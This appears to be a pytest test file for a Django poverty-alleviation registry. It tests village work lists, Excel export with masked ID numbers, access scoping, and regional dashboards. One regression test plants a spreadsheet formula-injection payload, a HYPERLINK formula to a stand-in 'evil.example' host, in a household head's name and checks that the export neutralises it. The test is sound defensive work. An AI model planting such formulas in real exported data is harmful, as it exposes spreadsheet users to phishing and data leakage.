"""Work lists (counts, workable rows, Excel export) and dashboards (RegionStat only), scoped."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from fupin.engine import idnumber
from fupin.engine import rules as R
from tests.regions import COUNTRY, TOWN, VILLAGE_A, VILLAGE_B
from tests.scopes import EVERYWHERE
from tests.web.web_helpers import YEAR, login

pytestmark = pytest.mark.django_db


def test_unmet_list_counts_households_by_indicator_and_links_them(assessed, cadre_client):
    response = cadre_client.get(f"/worklists/{VILLAGE_A}/?list=unmet&year={YEAR}")
    wl = response.context["wl"]
    counts = {key: n for key, _label, n in wl.counts}
    assert counts["food"] == 1 and counts["income"] == 0
    assert [r.household_id for r in wl.rows] == ["H1"]
    assert f"/households/H1/?year={YEAR}" in response.content.decode()


def test_unknown_list_names_the_indicator_to_verify_at_a_visit(assessed, cadre_client):
    wl = cadre_client.get(f"/worklists/{VILLAGE_A}/?list=unknown&key=clothing&year={YEAR}").context["wl"]
    assert [r.household_id for r in wl.rows] == ["H3"]


def test_quality_list_shows_findings_to_fix_by_their_label_keyed_by_code(assessed, cadre_client):
    response = cadre_client.get(f"/worklists/{VILLAGE_A}/?list=quality&year={YEAR}")
    wl = response.context["wl"]
    assert ("Q18", R.label("quality", "Q18"), 1) in wl.counts
    assert f'title="Q18">{R.label("quality", "Q18")}<' in response.content.decode()
    assert [r.household_id for r in wl.rows if r.code == "Q18"] == ["H2"]


@pytest.mark.parametrize("kind", ["leads", "elimination", "quality"])
def test_every_work_list_renders_with_counts(assessed, cadre_client, kind):
    response = cadre_client.get(f"/worklists/{VILLAGE_A}/?list={kind}&year={YEAR}")
    assert response.status_code == 200
    assert response.context["wl"].counts


def test_town_work_list_covers_its_villages(assessed, client, town_user):
    login(client, town_user)
    wl = client.get(f"/worklists/{TOWN}000/?list=unmet&year={YEAR}").context["wl"]
    assert dict((k, n) for k, _l, n in wl.counts)["food"] == 1


def test_export_is_an_excel_file_with_masked_ids(assessed, cadre_client):
    from fupin.registry.models import Member

    response = cadre_client.get(f"/worklists/{VILLAGE_A}/export/?list=unmet&key=food&year={YEAR}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][:4] == ("户编号", "区划代码", "户主", "户主证件号码")
    full = Member.objects.within(EVERYWHERE).get(name="张一").id_number
    assert rows[1][0] == "H1" and rows[1][3] == idnumber.mask(full) and full not in str(rows)


def test_export_writes_a_formula_in_a_name_as_quoted_text(assessed, cadre_client):
    """Issue 9: a head named =HYPERLINK(…) became a live formula in the work-list workbook."""
    from fupin.registry.models import Member

    formula = '=HYPERLINK("http://evil.example/?x","点击查看")'
    Member.objects.within(EVERYWHERE).filter(name="张一").update(name=formula)
    response = cadre_client.get(f"/worklists/{VILLAGE_A}/export/?list=unmet&key=food&year={YEAR}")
    cell = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active["C2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


def test_work_list_query_count_is_bounded(assessed, cadre_client, django_assert_max_num_queries):
    with django_assert_max_num_queries(14):
        cadre_client.get(f"/worklists/{VILLAGE_A}/?list=unmet&year={YEAR}")


@pytest.mark.parametrize("url", [
    f"/worklists/{VILLAGE_A}/?list=unmet", f"/worklists/{VILLAGE_A}/export/?list=unmet",
    f"/dashboard/{VILLAGE_A}/", f"/worklists/{TOWN}000/", f"/dashboard/{TOWN}000/", "/dashboard/500101000000/",
])
def test_another_villages_cadre_gets_404_on_work_lists_and_dashboards(assessed, client, other_village_user, url):
    login(client, other_village_user)
    assert client.get(url).status_code == 404


def test_dashboard_reads_region_figures_and_tables(assessed, cadre_client):
    response = cadre_client.get(f"/dashboard/{VILLAGE_A}/?year={YEAR}")
    html = response.content.decode()
    assert response.context["stat"].households == 3
    assert "chart-options" in html and "echarts.min.js" in html
    assert "cdn" not in html.lower()


def test_county_dashboard_ranks_towns_with_drill_down_links(assessed, client, county_user):
    login(client, county_user)
    response = client.get(f"/dashboard/500101000000/?year={YEAR}")
    children = response.context["children"]
    assert [c.code for c, _url, _leads in children] == [f"{TOWN}000"]
    assert f"/dashboard/{TOWN}000/?year={YEAR}" in response.content.decode()
    assert response.context["charts"]["ranking"]["drill"] == [f"/dashboard/{TOWN}000/?year={YEAR}"]


def test_town_dashboard_lists_both_villages(assessed, client, town_user):
    login(client, town_user)
    children = client.get(f"/dashboard/{TOWN}000/?year={YEAR}").context["children"]
    assert {c.code for c, _u, _l in children} == {VILLAGE_A, VILLAGE_B}


def test_dashboard_never_counts_the_registry(assessed, client, county_user, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    login(client, county_user)
    with CaptureQueriesContext(connection) as queries, django_assert_max_num_queries(10):
        client.get(f"/dashboard/500101000000/?year={YEAR}")
    assert not any("registry_household" in q["sql"] or "registry_member" in q["sql"] for q in queries)


def test_national_user_home_lists_provinces(assessed, client, make_user):
    login(client, make_user("nation", "analyst", COUNTRY))
    response = client.get("/")
    assert response.status_code == 200 and "重庆" in response.content.decode()
